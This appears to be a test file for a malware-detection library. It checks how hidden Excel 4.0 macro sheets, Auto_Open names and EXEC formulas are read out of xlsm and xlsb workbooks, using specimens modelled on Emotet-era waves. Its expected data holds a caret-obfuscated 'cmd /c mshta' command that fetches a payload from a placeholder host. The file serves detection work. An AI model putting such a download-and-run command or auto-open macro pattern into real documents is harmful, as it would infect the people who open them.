import { Budget, defaultLimits } from '../../../../src/detection/budget';
import { isGap } from '../../../../src/detection/contract';
import { zipParts } from '../../../../src/detection/facts/file/openers/office/ooxml';
import { readMacroSheetParts } from '../../../../src/detection/formats/office/excel/macro-sheets';
import type { MacroSheetParts } from '../../../../src/detection/formats/office/excel/macro-sheets';
import { readPackage, relatedParts } from '../../../../src/detection/formats/office/container/ooxml';
import { readZip } from '../../../../src/detection/formats/archive/zip/zip';
import {
  formattingMacroSheet,
  vbaAutoOpen,
  wave202112,
  wave202201,
} from '../../../../src/specimens/office/macro-sheets';
import { xlsb } from '../../../../src/specimens/office/xlsb';
import { xlsm } from '../../../../src/specimens/office/xlsm-macro-sheet';
import { testHost } from '../../../host';

function read(bytes: Uint8Array): MacroSheetParts {
  const budget = new Budget(defaultLimits, () => 0);
  const zip = readZip(bytes, testHost, budget);
  if (isGap(zip)) throw new Error(zip);
  const pkg = readPackage(zipParts(zip, { budget, host: testHost, name: '' }), testHost, budget);
  return readMacroSheetParts(pkg, relatedParts(pkg, '', ['officeDocument'])[0]!, false, budget);
}

describe('a macro sheet in a package', () => {
  it.each([
    ['<macrosheet>', xlsm(wave202112)],
    ['<worksheet>, as Emotet had it', xlsm({ ...wave202112, root: 'worksheet' })],
    ['an international one', xlsm({ ...wave202112, relationship: 'xlIntlMacrosheet' })],
  ])('is found in XML: %s', (_, bytes) => {
    expect(read(bytes)).toMatchObject({
      macroSheets: [
        {
          name: 'Macro1',
          visibility: 'hidden',
          cells: [
            { address: 'F1', formula: '=EXEC(SSDGO)' },
            { address: 'F3', formula: '=HALT()' },
          ],
        },
      ],
      definedNames: [
        { name: 'Auto_Open', formula: 'Macro1!$F$1', autoOpen: true, hidden: false },
        { name: 'SSDGO', formula: '"cmd /c m^sh^t^a h^tt^p^:/^/gone.invalid/fer/pp.html"', hidden: true },
      ],
    });
  });

  it('is found in binary parts, its formulas as in XML', () => {
    expect(read(xlsb(wave202201))).toMatchObject({
      macroSheets: [
        {
          name: 'EFWFSFG',
          visibility: 'very-hidden',
          cells: [
            { address: 'D10', formula: '=FORMULA(Sheet!B2&Sheet!C4&Sheet!D3&Sheet!E9,D15)' },
            { address: 'D12', formula: '=FORMULA(Sheet!B7&Sheet!C8,D18)' },
            { address: 'D20', formula: '=RETURN()' },
          ],
        },
      ],
      definedNames: [{ name: 'Auto_Open', formula: 'EFWFSFG!D10', autoOpen: true, hidden: true }],
    });
  });

  it('brings the texts of other binary sheets along, and the names of those in XML', () => {
    const text = { kind: 'cell', name: 'Sheet!B7', text: '=EXEC("C:\\nowhere\\regs' };
    expect(read(xlsb(wave202201)).cells).toContainEqual(text);
    expect([...read(xlsm(wave202201)).titles.values()]).toContain('Sheet');
  });

  it.each([
    ['xlsm', xlsm(vbaAutoOpen)],
    ['xlsb', xlsb(vbaAutoOpen)],
  ])('is not there in a workbook without one, whatever its names: %s', (_, bytes) => {
    expect(read(bytes)).toMatchObject({
      macroSheets: [],
      cells: [],
      definedNames: [{ name: 'Auto_Open', formula: '' }],
    });
  });

  it.each([
    ['xlsm', xlsm({ ...formattingMacroSheet, isProtected: true })],
    ['xlsb', xlsb({ ...formattingMacroSheet, isProtected: true })],
  ])('tells that the workbook is protected: %s', (_, bytes) => {
    expect(read(bytes).isProtected).toBe(true);
  });

  it('gives cells an address where the file leaves it out', () => {
    const sheet =
      '<worksheet><sheetData><row><c t="str"><f>EXEC("a")</f></c><c t="str"><f>HALT()</f></c></row><row r="7"><c t="str"><f>RETURN()</f></c></row></sheetData></worksheet>';
    const bytes = xlsm({
      sheets: [{ name: 'M', kind: 'macro' }],
      replace: { 'xl/macrosheets/sheet1.xml': sheet },
    });
    expect(read(bytes).macroSheets[0]!.cells.map(({ address }) => address)).toEqual(['A1', 'B1', 'A7']);
  });
});
